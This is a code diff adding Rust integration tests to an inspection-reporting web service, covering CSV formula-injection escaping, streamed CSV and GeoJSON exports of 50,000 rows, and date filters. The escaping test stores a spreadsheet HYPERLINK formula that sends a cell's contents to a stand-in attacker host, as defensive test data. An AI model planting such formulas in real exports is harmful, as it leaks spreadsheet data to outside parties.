@@ -225,3 +225,83 @@ fn a_failed_photo_is_answered_from_its_status() {
     let (s, _, body) = app.get_bytes(&format!("/api/v1/photos/{photo}/original"), &li, &[]);
     assert_eq!((s, body), (200, png));
 }
+
+#[test]
+fn csv_cells_never_run_as_formulas() {
+    let app = TestApp::spawn();
+    let d = District::new(&app);
+    let li = app.login("liming", PASSWORD);
+    let coord = app.login("zhoumin", PASSWORD);
+    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"详情")"#;
+    app.push(
+        &li,
+        &uuid(),
+        vec![new_inspection(
+            &uuid(),
+            &d,
+            json!({"title": evil, "notes": "+1-555", "severity": "high"}),
+            T0,
+        )],
+        vec![],
+    )
+    .ok(200);
+    let (s, _, body) = app.get_bytes("/api/v1/reports/inspections.csv", &coord, &[]);
+    assert_eq!(s, 200);
+    let text = String::from_utf8(body).unwrap();
+    let mut rd = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let row = rd.records().next().unwrap().unwrap();
+    assert_eq!(&row[4], format!("'{evil}"));
+    assert_eq!(&row[14], "'+1-555");
+    assert_eq!(&row[5], "high");
+}
+
+#[test]
+fn reports_stream_at_any_size_and_take_dates() {
+    let app = TestApp::spawn();
+    let d = District::new(&app);
+    let coord = app.login("zhoumin", PASSWORD);
+    // Years of records: 50,000 written straight into the database.
+    app.sql(&format!(
+        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 50000)
+         INSERT INTO inspections (id, version, group_id, inspector_id, site_id, template_id,
+             template_version, deleted, fields, field_meta, status, review_status, created_at, updated_at)
+         SELECT printf('00000000-0000-4000-8000-%012d', i), 1, '{g}', '{u}', '{s}', '{t}', 1, 0,
+             '{{\"title\":\"排口' || i || '\"}}', '{{}}', 'draft', 'pending',
+             datetime('2025-01-01', '+' || (i % 700) || ' days'), datetime('now')
+         FROM n;",
+        g = d.group_a,
+        u = d.inspector_a,
+        s = d.site_a,
+        t = d.template
+    ));
+    let (s, hs, body) = app.get_bytes("/api/v1/reports/inspections.csv", &coord, &[]);
+    assert_eq!(s, 200);
+    assert!(
+        !hs.iter()
+            .any(|(k, _)| k.eq_ignore_ascii_case("content-length")),
+        "streamed"
+    );
+    let lines = body.iter().filter(|b| **b == b'\n').count();
+    assert_eq!(lines, 50_001, "a header and every record");
+    let (s, _, body) = app.get_bytes("/api/v1/reports/inspections.geojson", &coord, &[]);
+    assert_eq!(s, 200);
+    let geo: serde_json::Value = serde_json::from_slice(&body).unwrap();
+    assert_eq!(geo["features"].as_array().unwrap().len(), 50_000);
+
+    // Dates: whole days in the district's time zone.
+    let r = app.get("/api/v1/reports/ledger?from=2026-01-01", &coord);
+    assert_eq!(r.status, 200, "{}", r.text);
+    let r = app.get(
+        "/api/v1/reports/ledger?from=2025-01-01&to=2025-01-01",
+        &coord,
+    );
+    assert_eq!(r.status, 200, "{}", r.text);
+    let r = app.get(
+        "/api/v1/inspections?from=2025-01-02&to=2025-01-02&limit=500",
+        &coord,
+    );
+    assert_eq!(r.status, 200, "{}", r.text);
+    assert!(!r.body["items"].as_array().unwrap().is_empty());
+    let r = app.get("/api/v1/reports/ledger?from=yesterday", &coord);
+    assert_eq!(r.status, 400, "{}", r.text);
+}
